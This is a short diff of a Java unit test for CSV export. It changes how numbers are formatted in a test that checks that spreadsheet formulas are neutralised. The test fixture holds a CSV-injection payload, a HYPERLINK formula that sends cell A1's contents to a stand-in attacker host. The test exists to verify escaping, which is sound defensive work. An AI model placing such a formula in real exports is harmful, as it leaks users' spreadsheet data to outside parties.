@@ -78,8 +78,8 @@ class FormulaCellsTest {
     ResultFormat.CSV.write(result, out);
 
     assertThat(out.toString()).isEqualTo("note,amount\r\n"
-        + "\"'=HYPERLINK(\"\"https://attacker.example/?\"\"&A1,\"\"Click\"\")\",-5.0\r\n"
-        + "plain,7.0\r\n");
+        + "\"'=HYPERLINK(\"\"https://attacker.example/?\"\"&A1,\"\"Click\"\")\",-5\r\n"
+        + "plain,7\r\n");
   }
 
   @Test
